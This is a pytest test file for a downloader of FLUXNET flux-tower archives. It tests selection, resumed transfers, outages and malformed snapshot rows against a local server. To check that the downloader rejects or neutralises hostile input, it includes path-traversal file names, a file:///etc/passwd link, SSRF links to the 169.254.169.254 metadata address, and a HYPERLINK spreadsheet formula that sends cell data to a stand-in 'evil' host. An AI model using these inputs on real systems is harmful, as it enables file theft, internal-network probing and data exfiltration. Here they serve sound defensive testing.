"""The shuttle: a server on this machine gives archives in the real format, by links of the real snapshot's kind."""

import base64
import csv
import errno
import hashlib
import http.server
import io
import os
import threading
import zipfile

import pandas as pd
import pytest

from tamrl import files
from tamrl.errors import ConfigError, DownloadError, InputError, MachineError, OutageError
from tamrl.towers import stage, survey
from tamrl.towers.networks import shuttle
from tamrl.towers.reader import shuttle as reader
from tamrl.towers.reader import snapshot
from tamrl.web.addresses import LOCAL
from tests.server import send_range

SITES = {"DE-Aaa": ("ICOS", "DBF"), "DE-Bbb": ("TERN", "GRA"), "US-Ccc": ("AMF", "CRO"), "NO-Ddd": ("EUF", "ENF")}


class Server(http.server.ThreadingHTTPServer):
    """Serves `content` by path, links with queries and a redirection as the hubs have them; `faults` break single requests."""

    def __init__(self):
        self.content: dict[str, bytes] = {}
        self.faults: dict[str, list[str]] = {}
        self.seen: list[tuple[str, str | None]] = []
        super().__init__(("127.0.0.1", 0), Handler)


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        name, _, query = self.path.lstrip("/").partition("?")
        if name == "elsewhere":
            self.send_response(302)
            self.send_header("Location", query)
            self.end_headers()
            return
        if name == "licence_accept":  # as at ICOS: accepting the licence leads to the object
            self.send_response(303)
            self.send_header("Location", "/" + query.removeprefix("ids="))
            self.end_headers()
            return
        self.server.seen.append((name, self.headers.get("Range")))
        faults = self.server.faults.get(name, [])
        fault = faults.pop(0) if faults else None
        if fault and fault.isdigit():
            self.send_error(int(fault))
            return
        body = b"<html>sign in</html>" if fault == "page" else self.server.content[name]
        send_range(self, body, fault)

    def log_message(self, *args):
        pass


@pytest.fixture
def server(monkeypatch):
    monkeypatch.setenv(LOCAL, "127.0.0.1")
    with Server() as running:
        threading.Thread(target=running.serve_forever, daemon=True).start()
        yield running
        running.shutdown()


def _archive(sample, hub, site):
    name, years = f"{hub}_{site}_FLUXNET", "2010-2011_v1.3_r1"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"{name}_FLUXMET_DD_{years}.csv", sample.rows().to_csv(index=False))
        bif = sample.bif("DE-Aaa", separator=",").replace(b"DE-Aaa", site.encode())
        archive.writestr("map.png", os.urandom(300_000))  # longer than a block of a transfer
        archive.writestr(f"{name}_BIF_{years}.csv", bif if site != "DE-Bbb" else b"")  # one without metadata
    return f"{name}_{years}.zip", buffer.getvalue()


@pytest.fixture
def listed(server, sample, tmp_path):
    """A snapshot of four towers, ready to be fetched."""
    rows = []
    for k, (site, (hub, igbp)) in enumerate(SITES.items()):
        name, content = _archive(sample, hub, site)
        server.content[name] = content
        icos = base64.urlsafe_b64encode(hashlib.sha256(content).digest()[:18]).decode()
        base = f"http://127.0.0.1:{server.server_address[1]}"
        rows.append(
            {
                "data_hub": hub, "site_id": site, "site_name": f"Tower & {k}", "location_lat": "51.0", "location_long": "10.5",
                "igbp": igbp, "network": hub, "first_year": str(2000 + k), "last_year": str(2005 + k),
                "download_link": f"{base}/licence_accept?ids={name}" if hub == "ICOS" else f"{base}/{name}?=fluxnetshuttle",
                "fluxnet_product_name": name, "product_citation": f"A. Person_{k} & B. (2025), {site}, https://doi.org/10.1/{k}",
                "product_id": icos if hub == "ICOS" else f"10.17190/AMF/{k}", "oneflux_code_version": "v1.3",
                "product_source_network": hub,
            }
        )  # fmt: skip
    path = tmp_path / "fluxnet_shuttle_snapshot_20260624T095651.csv"
    pd.DataFrame(rows).to_csv(path, index=False)
    return path


def _fetch(listed, folder, **options):
    reader._chosen.cache_clear()
    shuttle.fetch(shuttle.Options(snapshot=str(listed), **{"attempts": 3} | options), folder, wait=0.01)
    return sorted(p.name for p in folder.glob("*.zip"))


def _gather(folder, **how):
    return survey.read_tables(shuttle, [folder], shuttle.Options(snapshot="x"), survey.SurveyPlan("day", **how))


def test_from_snapshot_to_towers(listed, tmp_path):
    assert len(_fetch(listed, tmp_path / "shuttle")) == 4
    table, places, aside = _gather(tmp_path / "shuttle")
    assert aside.empty and places["site"].tolist() == sorted(SITES) and len(table) == 1600
    assert set(places["network"]) == {"shuttle"} and places["doi"].iloc[-1] == "10.17190/AMF/2"
    assert places.set_index("site").loc["DE-Bbb", ["lat", "lon", "igbp"]].tolist() == [51.0, 10.5, "GRA"]  # from the snapshot


@pytest.mark.parametrize(
    ("options", "kept"),
    [
        ({"countries": ("DE",)}, ["DE-Aaa", "DE-Bbb"]),
        ({"countries": ("NO",)}, ["NO-Ddd"]),
        ({"classes": ("CRO", "GRA")}, ["DE-Bbb", "US-Ccc"]),
        ({"sites": ("US-Ccc",)}, ["US-Ccc"]),
        ({"years": (1990, 2001)}, ["DE-Aaa", "DE-Bbb"]),
        ({"countries": ("DE",), "years": (2006, 2030)}, ["DE-Bbb"]),
    ],
)
def test_towers_are_chosen(listed, options, kept):
    frame = snapshot.select_rows(snapshot.read_usable_rows(listed), **options, where="x")
    assert frame["site_id"].tolist() == kept


def test_a_wrong_choice_says_so(listed):
    frame = snapshot.read_usable_rows(listed)
    with pytest.raises(ConfigError, match="did you mean DE-Aaa"):
        snapshot.select_rows(frame, sites=("DE-Aab",), where="x")
    with pytest.raises(ConfigError, match="no tower of the snapshot is wanted"):
        snapshot.select_rows(frame, countries=("ZZ",), where="x")


def test_the_real_snapshot_by_country_class_and_year(shared_data):
    (path,) = (shared_data / "archives" / "metadata").glob("fluxnet_shuttle_snapshot_*.csv")
    frame = snapshot.read_usable_rows(path)
    assert len(frame) == 767 and len(snapshot.select_rows(frame, where=path)) == 767
    forests = snapshot.select_rows(frame, countries=("DE", "FR"), classes=("ENF", "DBF", "MF"), years=(2010, 2020), where=path)
    assert 10 < len(forests) < 40 and set(forests["site_id"].str[:2]) == {"DE", "FR"}


def test_only_what_is_new_is_fetched(listed, server, tmp_path):
    _fetch(listed, tmp_path / "shuttle", countries=("DE",))
    assert len(server.seen) == 2
    assert len(_fetch(listed, tmp_path / "shuttle")) == 4
    assert len(server.seen) == 4
    _fetch(listed, tmp_path / "shuttle", sites=("US-Ccc",))
    assert len(server.seen) == 4 and len(list((tmp_path / "shuttle").glob("*.zip"))) == 1


def test_a_dropped_transfer_goes_on(listed, server, tmp_path):
    name = next(n for n in server.content if "DE-Bbb" in n)
    server.faults[name] = ["drop", "503"]
    assert len(_fetch(listed, tmp_path / "shuttle", sites=("DE-Bbb",))) == 1
    first, *again = [r for _, r in server.seen]
    assert first is None and len(again) == 2 and again[0] == again[1]
    assert 0 < int(again[0].removeprefix("bytes=").rstrip("-")) <= 0.4 * len(server.content[name])
    assert (tmp_path / "shuttle" / name).read_bytes() == server.content[name]


@pytest.mark.parametrize(
    ("site", "fault", "reason"),
    [("DE-Bbb", "page", "no whole zip"), ("DE-Aaa", "page", "checksum"), ("US-Ccc", "404", "404")],
)
def test_what_cannot_be_had_is_set_aside(listed, server, tmp_path, site, fault, reason):
    name = next(n for n in server.content if site in n)
    server.faults[name] = [fault] * 9
    assert len(_fetch(listed, tmp_path / "shuttle")) == 3
    _, places, aside = _gather(tmp_path / "shuttle", strict=False)
    assert len(places) == 3 and aside["site"].tolist() == [site]
    assert "could not be downloaded" in aside["reason"][0] and reason in aside["reason"][0]
    assert not list(tmp_path.rglob("*.part"))
    server.faults.clear()
    assert len(_fetch(listed, tmp_path / "shuttle")) == 4  # the next run has it


def test_a_damaged_store_is_mended(listed, tmp_path):
    _fetch(listed, tmp_path / "shuttle", sites=("US-Ccc",))
    (kept,) = (tmp_path / ".shuttle.store").glob("*.zip")
    content = kept.read_bytes()
    kept.unlink()
    kept.write_bytes(content[: len(content) // 2])
    _fetch(listed, tmp_path / "shuttle", sites=("US-Ccc",))
    assert kept.read_bytes() == content


def test_nothing_at_all_is_an_error(listed, server, tmp_path):
    server.faults = {name: ["404"] for name in server.content}
    with pytest.raises(DownloadError, match="no archive could be had"):
        _fetch(listed, tmp_path / "shuttle")
    assert not (tmp_path / "shuttle").exists()


# Snapshots that are none, and rows that are odd


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ("", "is empty"),
        ("\n \n", "is empty"),
        ("<!DOCTYPE html>\n<html><body>a,b,c</body></html>\n", "web page"),
        ("a,b\n1,2\n", "lacks site_id"),
        (",".join(snapshot.COLUMNS) + "\n", "lists no tower"),
        (",".join([*snapshot.COLUMNS, "igbp"]) + "\n", "twice"),
        (b"\xff\xfe\0a\0", "cannot be read"),
        (b"PK\x03\x04\0\0\xff", "cannot be read"),
    ],
)
def test_what_is_no_snapshot_is_refused_by_name(tmp_path, content, reason):
    path = tmp_path / "snapshot.csv"
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    with pytest.raises(InputError, match=rf"{reason}[\s\S]*snapshot\.csv"):
        snapshot.read_usable_rows(path)


def test_a_snapshot_that_is_not_there_is_named(tmp_path):
    with pytest.raises(InputError, match="no such file"):
        snapshot.read_usable_rows(tmp_path / "none.csv")


LINKS = (
    "file:///etc/passwd",
    "https://me:s3cret@host.org/a.zip",
    "",
    "ask the hub",
    "http://[::1/x",
    "http:///x",
    "http://a:99999/x",
)
ODD = [("fluxnet_product_name", value) for value in ("../../evil.zip", "/etc/x.zip", "", f"{'x' * 250}.zip")]
ODD += [("download_link", value) for value in LINKS] + [("site_id", value) for value in ("", "../x")]
ODD += [("location_lat", value) for value in ("north", "91")] + [("location_long", value) for value in ("10,5", "inf")]


@pytest.mark.parametrize(("column", "value"), ODD)
def test_an_odd_row_is_set_aside_with_line_and_field_and_the_others_are_used(listed, server, tmp_path, column, value):
    frame = pd.read_csv(listed, dtype=str)
    frame.loc[1, column] = value
    frame.to_csv(listed, index=False)
    assert snapshot.read_usable_rows(listed)["site_id"].tolist() == ["DE-Aaa", "US-Ccc", "NO-Ddd"]
    assert len(_fetch(listed, tmp_path / "shuttle")) == 3
    _, places, aside = _gather(tmp_path / "shuttle", strict=False)
    assert places["site"].tolist() == ["DE-Aaa", "NO-Ddd", "US-Ccc"]
    assert aside["site"].tolist() == ["unknown" if column == "site_id" else "DE-Bbb"]
    assert f"line 3 of the snapshot: {column}" in aside["reason"][0]
    assert {p.name for p in tmp_path.iterdir() if not files.is_seal(p.name)} == {"raw", "shuttle", ".shuttle.store", listed.name}
    assert not {n for n, _ in server.seen if "DE-Bbb" in n}
    with pytest.raises(InputError, match="line 3 of the snapshot"):
        _gather(tmp_path / "shuttle", strict=True)


WRONG = ["127.0.0.2:{port}/latest/meta-data", "169.254.169.254/latest/meta-data", "a..b/x", "127.0.0.1:{port}/elsewhere?file:///etc/passwd",
         "127.0.0.1:{port}/elsewhere?/elsewhere?/elsewhere", "127.0.0.1:{port}/elsewhere?http://127.0.0.2:{port}/x"]  # fmt: skip


@pytest.mark.parametrize("link", WRONG)
def test_a_link_that_leads_where_it_may_not_costs_its_own_row_alone(listed, server, tmp_path, link):
    frame = pd.read_csv(listed, dtype=str)
    frame.loc[1, "download_link"] = f"http://{link.format(port=server.server_address[1])}"
    frame.to_csv(listed, index=False)
    assert len(_fetch(listed, tmp_path / "shuttle")) == 3
    assert _gather(tmp_path / "shuttle", strict=False)[2]["site"].tolist() == ["DE-Bbb"]
    assert not {name for name, _ in server.seen if "meta-data" in name or name == "x"}


def test_a_table_names_no_server_of_this_machine_unless_the_user_does(listed, server, tmp_path, monkeypatch):
    monkeypatch.delenv(LOCAL)
    with pytest.raises(DownloadError, match=r"no archive could be had(.|\n)*this machine") as caught:
        _fetch(listed, tmp_path / "shuttle")
    assert not isinstance(caught.value, OutageError) and not server.seen


def test_no_login_of_a_link_is_kept(listed, tmp_path, caplog):
    frame = pd.read_csv(listed, dtype=str)
    frame.loc[2:, "download_link"] += "&token=s3cret"
    frame.loc[1, "download_link"] = "https://me:s3cret@host.org/a.zip"
    frame.to_csv(listed, index=False)
    _fetch(listed, tmp_path / "shuttle")
    text = (tmp_path / "shuttle" / reader.CHOSEN).read_text()
    assert "token=***" in text and "s3cret" not in text + caplog.text


def test_a_table_beyond_measure_is_refused(listed, monkeypatch):
    monkeypatch.setattr(snapshot, "LARGEST", 100)
    with pytest.raises(InputError, match="too large"):
        snapshot.read_usable_rows(listed)


def test_rows_of_another_width_and_open_quotation_marks_cost_their_own_line_alone(listed):
    header, *rows = listed.read_text().splitlines()
    for odd in (rows[1] + ",more", rows[1].rsplit(",", 1)[0], '"' + rows[1], rows[1].replace("Tower", '"Tower')):
        listed.write_text("\n".join([header, rows[0], odd, *rows[2:]]) + "\n")
        frame = snapshot.read_snapshot(listed)
        assert frame["odd"].ne("").tolist() == [False, True, False, False], odd
        assert frame["odd"][1].startswith("line 3 of the snapshot: ")


def test_an_archive_in_two_rows_is_taken_once(listed, tmp_path):
    header, *rows = listed.read_text().splitlines()
    listed.write_text("\n".join([header, *rows, rows[0]]) + "\n")
    assert len(_fetch(listed, tmp_path / "shuttle")) == 4
    _, places, aside = _gather(tmp_path / "shuttle", strict=False)
    assert len(places) == 4 and aside["reason"].tolist() == ["line 6 of the snapshot: the archive stands in a row before"]


@pytest.mark.parametrize("year", ["", " ", "unknown", "20100", "nan"])
def test_a_tower_without_years_is_left_out_of_a_choice_by_years_alone(listed, caplog, year):
    frame = pd.read_csv(listed, dtype=str)
    frame.loc[1, "first_year"] = year
    frame["last_year"] += ".0"
    frame.to_csv(listed, index=False)
    assert len(snapshot.select_rows(snapshot.read_usable_rows(listed), where=listed)) == 4
    chosen = snapshot.select_rows(snapshot.read_usable_rows(listed), years=(2000, 2010), where=listed)
    assert chosen["site_id"].tolist() == ["DE-Aaa", "US-Ccc", "NO-Ddd"] and "left out: DE-Bbb" in caplog.text


def test_odd_rows_of_towers_that_are_not_wanted_are_not_listed(listed, tmp_path):
    frame = pd.read_csv(listed, dtype=str)
    frame.loc[1, "download_link"] = "none"
    frame.to_csv(listed, index=False)
    _fetch(listed, tmp_path / "shuttle", countries=("US",))
    assert _gather(tmp_path / "shuttle", strict=False)[2].empty


# Two hubs, and what changes in the list


def test_of_two_products_of_a_tower_one_is_taken_and_the_other_named(listed, server, sample, tmp_path, caplog):
    frame = pd.read_csv(listed, dtype=str)
    name, server.content["x"] = _archive(sample, "AMF", "DE-Aaa")
    new = name.replace("_r1", "_r2")
    server.content[new] = server.content.pop("x")
    row = frame.iloc[[0]].assign(
        fluxnet_product_name=new, product_id="p", download_link=frame["download_link"][1].rsplit("/", 1)[0]
    )
    pd.concat([frame, row.assign(download_link=row["download_link"] + f"/{new}")]).to_csv(listed, index=False)
    assert len(_fetch(listed, tmp_path / "shuttle")) == 5
    table, places, aside = _gather(tmp_path / "shuttle", strict=True)
    assert places["site"].tolist() == sorted(SITES) and not table.duplicated(["site", "date"]).any()
    assert aside["file"].tolist() == ["ICOS_DE-Aaa_FLUXNET_2010-2011_v1.3_r1.zip"] and new in aside["reason"][0]
    assert f"{new} is taken" in caplog.text
    (tmp_path / "shuttle" / new).unlink()
    reader._chosen.cache_clear()
    assert _gather(tmp_path / "shuttle", strict=False)[1]["site"].tolist() == sorted(SITES)


def test_a_corrected_citation_is_taken_up(listed, tmp_path):
    wanted = {"store": tmp_path / "store"}
    _fetch(listed, tmp_path / "shuttle")
    _gather(tmp_path / "shuttle", **wanted)
    listed.write_text(listed.read_text().replace("A. Person_0", "B. Nobody"))
    _fetch(listed, tmp_path / "shuttle")
    assert _gather(tmp_path / "shuttle", **wanted)[1]["citation"][0].startswith("B. Nobody")


def test_formulas_and_control_characters_of_a_snapshot_stay_text(listed, tmp_path):
    frame = pd.read_csv(listed, dtype=str, keep_default_na=False)
    evil = '=HYPERLINK("http://evil/?x="&A1,"open")'
    frame["product_citation"], frame["=extra"] = f"{evil}\n\x1b[2J (2020)", "@SUM(1)"
    frame.loc[1:, "product_id"] = "-AbCdEfGh"
    frame.to_csv(listed, index=False)
    _fetch(listed, tmp_path / "shuttle")
    with open(tmp_path / "shuttle" / reader.CHOSEN, newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert f"'{evil} [2J (2020)" in cells and {"'-AbCdEfGh", "'@SUM(1)", "'=extra"} <= set(cells)
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")] and "\x1b" not in "".join(cells)
    places = _gather(tmp_path / "shuttle")[1].set_index("site")
    assert set(places["citation"]) == {f"{evil} [2J (2020)"} and places.loc["US-Ccc", "doi"] == "-AbCdEfGh"


# A network that goes away


@pytest.mark.parametrize("fault", ["503", "429", "drop"])
def test_an_outage_fails_the_download_and_the_next_asks_for_the_rest(listed, server, tmp_path, fault):
    rest = list(server.content)[1:]
    server.faults = {name: [fault] * 9 for name in rest}
    with pytest.raises(OutageError, match=r"3 archives are still wanted[\s\S]*1 of 4 archives are here; missing: DE-Bbb"):
        _fetch(listed, tmp_path / "shuttle", attempts=1, at_once=1)
    assert not (tmp_path / "shuttle").exists()
    server.faults, server.seen = {}, []
    assert len(_fetch(listed, tmp_path / "shuttle")) == 4
    assert sorted(n for n, _ in server.seen) == sorted(rest)


def test_a_server_that_is_gone_is_not_asked_for_hundreds(listed, server, tmp_path):
    frame = pd.read_csv(listed, dtype=str)
    more = [frame.iloc[[3]].assign(site_id=f"NO-{k}", fluxnet_product_name=f"EUF_NO-{k}_x.zip") for k in range(20)]
    pd.concat([*more, frame]).to_csv(listed, index=False)
    server.faults = {name: ["503"] * 99 for name in server.content}
    with pytest.raises(OutageError, match="0 of 24 archives"):
        _fetch(listed, tmp_path / "shuttle", attempts=1, at_once=1)
    assert len(server.seen) == 3


def test_an_archive_that_arrives_damaged_once_is_fetched_once_more(listed, server, tmp_path):
    server.faults = {name: ["page"] for name in server.content}
    assert len(_fetch(listed, tmp_path / "shuttle")) == 4


def test_what_an_older_version_left_out_for_the_network_is_asked_for_again(listed, tmp_path):
    _fetch(listed, tmp_path / "shuttle")
    chosen = tmp_path / "shuttle" / reader.CHOSEN
    frame = pd.read_csv(chosen, dtype=str, keep_default_na=False)
    frame.loc[1, ["arrived_sha256", "reason"]] = ["", "the download failed 5 times: the server answers 503"]
    frame.to_csv(chosen, index=False)
    reader._chosen.cache_clear()
    with pytest.raises(OutageError, match=r"1 archives were left out(.|\n)*DE-Bbb(.|\n)*delete"):
        _gather(tmp_path / "shuttle", strict=False)


def test_a_full_disk_is_no_fault_of_an_archive(listed, tmp_path, monkeypatch):
    def full(*args):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(reader.os, "replace", full)
    with pytest.raises(MachineError, match="ENOSPC"):
        _fetch(listed, tmp_path / "shuttle")


def test_a_new_snapshot_by_the_command(listed, tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
    with pytest.raises(ConfigError, match="not installed"):
        snapshot.make_snapshot(tmp_path / "snapshots")
    program = tmp_path / "bin" / snapshot.COMMAND
    program.parent.mkdir()
    program.write_text(f'#!/bin/sh\n[ "$1" = listall ] && [ "$2" = -o ] && /bin/cp {listed} "$3"/\n')
    program.chmod(0o755)
    assert snapshot.make_snapshot(tmp_path / "snapshots").read_bytes() == listed.read_bytes()
    program.write_text("#!/bin/sh\necho no network >&2\nexit 1\n")
    for file in (tmp_path / "snapshots").iterdir():
        file.unlink()
    with pytest.raises(DownloadError, match="no network"):
        snapshot.make_snapshot(tmp_path / "snapshots")


def test_without_a_snapshot_the_configuration_says_what_to_do():
    with pytest.raises(ConfigError, match=r"towers\.shuttle\.snapshot"):
        shuttle.inputs(shuttle.Options())


def test_the_stage_downloads_with_options(listed, tmp_path):
    options = {"snapshot": str(listed), "sites": ["DE-Bbb"]}
    stage.download_towers(sources="none", folder=str(tmp_path / "shuttle"), network="shuttle", options=options)
    assert len(list((tmp_path / "shuttle").glob("*.zip"))) == 1
